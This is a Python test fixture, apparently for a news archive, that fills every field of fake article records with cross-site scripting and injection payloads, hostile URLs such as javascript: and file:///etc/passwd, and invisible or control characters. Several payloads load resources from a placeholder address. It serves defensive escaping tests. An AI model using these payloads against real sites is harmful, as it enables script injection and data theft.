"""Texts that try to be more than text, and an archive whose articles are made of nothing else.

What runs adds its name to `window.ran`; what loads or sends goes to 198.51.100.7, where nobody is.
"""

from html import escape
from typing import Any

PAYLOADS = {
    "avocet": "<script>ran.push('avocet')</script><script src=http://198.51.100.7/a.js></script>",
    "bittern": "\"><img src=x onerror=ran.push('bittern')> ' autofocus onfocus='ran.push(2)",
    "curlew": "</style></title></textarea></script><img src=x onerror=ran.push('curlew')>",
    "dunlin": "<a href=\"javascript:ran.push('dunlin')\" id=question>go</a><form id=ask></form>",
    "egret": "<svg onload=ran.push('egret')><animate onbegin=ran.push('egret') dur=1s></svg>",
    "fulmar": "<style>*{background:url(http://198.51.100.7/f)}</style><b style='x:expression(1)'>",
    "gannet": "![tern](http://198.51.100.7/g.png) [tern](javascript:ran.push('gannet'))",
    "heron": "&lt;img src=x onerror=ran.push('heron')&gt; &amp;lt;b&amp;gt; &#x3c;i&#x3e; &quot;",
    "ibis": "<iframe srcdoc=\"<script>parent.ran.push('ibis')</script>\"></iframe><object data=x>",
    "jacana": "${ran.push('jacana')} {{ran.push('jacana')}} {% if ran %} <%= ran %> #{ran}",
    "knot": "<meta http-equiv=refresh content='0;url=http://198.51.100.7/'><base href=//198.51>",
    "lapwing": "<form action=http://198.51.100.7/><button formaction=javascript:ran.push(1)>Go",
    "merlin": "\u202ednuora denrut\u202c and \u2067left open \u202dand \u061cagain",
    "noddy": "au\u200bdi\u2060to\ufeffrs\u200d and \u00adsoft",
    "osprey": "unbroken" * 400,
    "plover": "nul \x00 escape \x1b[31m bell \x07 and \ufffe no character",
    "quail": "<noscript><p title=\"</noscript><img src=x onerror=ran.push('quail')>\"></noscript>",
    "ruff": "<math><mtext><table><mglyph><style><!--</style><img src onerror=ran.push('ruff')>-->",
    "siskin": "<details open ontoggle=ran.push('siskin')><input autofocus onfocus=ran.push(1)>",
    "tern": "<link rel=stylesheet href=http://198.51.100.7/t.css><video src=http://198.51.100.7/t>",
}
ADDRESSES = (
    "javascript:ran.push('url')",
    "JaVa\tScRiPt:ran.push('url')",
    "data:text/html,<script>opener.ran.push(1)</script>",
    "vbscript:msgbox(1)",
    "https://example.com/\" onmouseover=\"ran.push('url')",
    "//198.51.100.7/u",
    "file:///etc/passwd",
)


def hostile_records() -> list[dict[str, Any]]:
    """One article for each payload, which stands in every field that an article has."""
    return [
        {
            "id": f"{bird} {payload}",
            "title": f"The {bird} audit {payload}",
            "outlet": f"{bird} {payload}",
            "authors": [f"{bird} {payload}"],
            "section": payload,
            "rights": payload,
            "published": "2026-10-20",
            "url": ADDRESSES[place % len(ADDRESSES)],
            # Ingest reads HTML: what is escaped here is words, which the page must escape.
            "text": f"<p>The auditor of the {bird} wrote in the report: {escape(payload)} and "
            f"the owner of the {bird} signed it.</p>",
        }
        for place, (bird, payload) in enumerate(PAYLOADS.items())
    ]
